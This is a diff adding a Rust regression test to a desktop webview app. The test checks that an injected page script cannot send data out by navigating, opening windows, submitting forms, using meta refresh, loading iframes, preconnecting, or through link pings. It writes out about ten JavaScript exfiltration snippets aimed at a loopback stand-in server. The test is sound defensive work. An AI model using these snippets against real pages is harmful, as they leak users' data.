@@ -328,3 +328,131 @@ fn the_web_process_maps_no_writable_executable_memory() {
         "writable and executable mappings: {writable_executable:?}"
     );
 }
+
+/// Regression (issue 21): the CSP stops `fetch` and images, but a page
+/// script could still send what it read out by navigating the window
+/// (`location.href = 'http://…?data=…'`), or by opening a window on such
+/// an address; and WebKit connects to a clicked link's server before the
+/// navigation is even decided. src-tauri/navigation.rs keeps the window on
+/// the app's own page, refuses new windows, and gives the page no network
+/// at all. A server on 127.0.0.1 stands for the outside: every way a
+/// script or a click has to leave the page is tried, and none reaches it,
+/// nor leaves the app's page or opens a window.
+#[test]
+fn regression_a_page_script_cannot_send_data_out_by_navigating() {
+    use std::io::{BufRead, BufReader};
+    use std::net::TcpListener;
+    use std::time::{Duration, Instant};
+
+    let server = TcpListener::bind("127.0.0.1:0").expect("a loopback listener");
+    server.set_nonblocking(true).unwrap();
+    let outside = format!("http://127.0.0.1:{}", server.local_addr().unwrap().port());
+    let vault = TestVault::new();
+    let app = crate::app::start(&vault);
+    app.wait_for("[data-testid=setup-form]", crate::app::START);
+    let origin = app.execute("return location.origin;");
+    let origin = origin.as_str().unwrap_or_default().to_owned();
+    assert!(!origin.is_empty(), "the page has an origin");
+
+    // Elements for real clicks, set up from a script as an injected one
+    // would.
+    app.execute(&format!(
+        "const add = (html) => {{ const box = document.createElement('div'); box.innerHTML = html; document.body.prepend(box); }};\
+         add('<a id=\"out-blank\" target=\"_blank\" href=\"{outside}/blank-click?data=secret\">out</a>');\
+         add('<a id=\"out-link\" href=\"{outside}/link-click?data=secret\" ping=\"{outside}/ping?data=secret\">out</a>');\
+         add('<button id=\"out-open\" type=\"button\">out</button>');\
+         document.getElementById('out-open').addEventListener('click', () => window.open('{outside}/open-click?data=secret'));\
+         return null;"
+    ));
+    // Every way a script has to leave the page or open another.
+    let attempts = [
+        format!("location.href = '{outside}/href?data=secret';"),
+        format!("location.assign('{outside}/assign?data=secret');"),
+        format!("location.replace('{outside}/replace?data=secret');"),
+        format!("window.open('{outside}/open?data=secret');"),
+        format!(
+            "const a = document.createElement('a'); a.target = '_blank'; a.href = '{outside}/blank?data=secret';\
+             document.body.append(a); a.click();"
+        ),
+        format!(
+            "const a = document.createElement('a'); a.href = '{outside}/link?data=secret';\
+             document.body.append(a); a.click();"
+        ),
+        format!(
+            "const f = document.createElement('form'); f.action = '{outside}/form'; f.method = 'get';\
+             const i = document.createElement('input'); i.name = 'data'; i.value = 'secret'; f.append(i);\
+             document.body.append(f); f.submit();"
+        ),
+        format!(
+            "const m = document.createElement('meta'); m.httpEquiv = 'refresh';\
+             m.content = '0;url={outside}/refresh?data=secret'; document.head.append(m);"
+        ),
+        format!(
+            "const f = document.createElement('iframe'); f.src = '{outside}/iframe?data=secret';\
+             document.body.append(f);"
+        ),
+        format!(
+            "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = '{outside}/';\
+             document.head.append(l);"
+        ),
+    ];
+    // The server reads what each connection asks for and hangs up, so a
+    // navigation that got out fails rather than waits for an answer (and
+    // holds up WebDriver, which waits for pages to load). It listens
+    // until every attempt below has had 2 s more.
+    let listen_for =
+        Duration::from_millis(300 * (attempts.len() as u64 + 3) + 500) + Duration::from_secs(2);
+    let listening = std::thread::spawn(move || {
+        let deadline = Instant::now() + listen_for;
+        let mut reached = Vec::new();
+        while Instant::now() < deadline {
+            match server.accept() {
+                Ok((stream, _)) => {
+                    stream.set_nonblocking(false).unwrap();
+                    stream
+                        .set_read_timeout(Some(Duration::from_secs(1)))
+                        .unwrap();
+                    let mut line = String::new();
+                    let _ = BufReader::new(stream).read_line(&mut line);
+                    reached.push(line.trim().to_owned());
+                }
+                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
+                    std::thread::sleep(Duration::from_millis(20));
+                }
+                Err(e) => panic!("the listener failed: {e}"),
+            }
+        }
+        reached
+    });
+    // From a timer, 300 ms apart: the script returns at once, as an
+    // injected one would, and each attempt has time to start its request.
+    let steps: Vec<String> = attempts
+        .iter()
+        .map(|attempt| format!("() => {{ {attempt} }}"))
+        .collect();
+    app.execute(&format!(
+        "[{}].forEach((step, i) => setTimeout(step, 300 * i)); return null;",
+        steps.join(", ")
+    ));
+    std::thread::sleep(Duration::from_millis(300 * attempts.len() as u64 + 500));
+    // Real clicks: a user's gesture, which WebKit lets open windows.
+    for id in ["out-blank", "out-link", "out-open"] {
+        if let Some(element) = app.find_all(&format!("#{id}")).into_iter().next() {
+            element.click();
+        }
+        std::thread::sleep(Duration::from_millis(300));
+    }
+    let reached = listening.join().expect("the listener");
+    assert!(
+        reached.is_empty(),
+        "the page reached the outside: {reached:?}"
+    );
+    // Still the app, in its one window.
+    let href = app.execute("return location.href;");
+    assert!(
+        href.as_str().is_some_and(|h| h.starts_with(&origin)),
+        "the window shows {href}, not {origin}"
+    );
+    app.wait_for("[data-testid=setup-form]", crate::app::SHORT);
+    assert_eq!(app.window_handles().len(), 1, "a window was opened");
+}
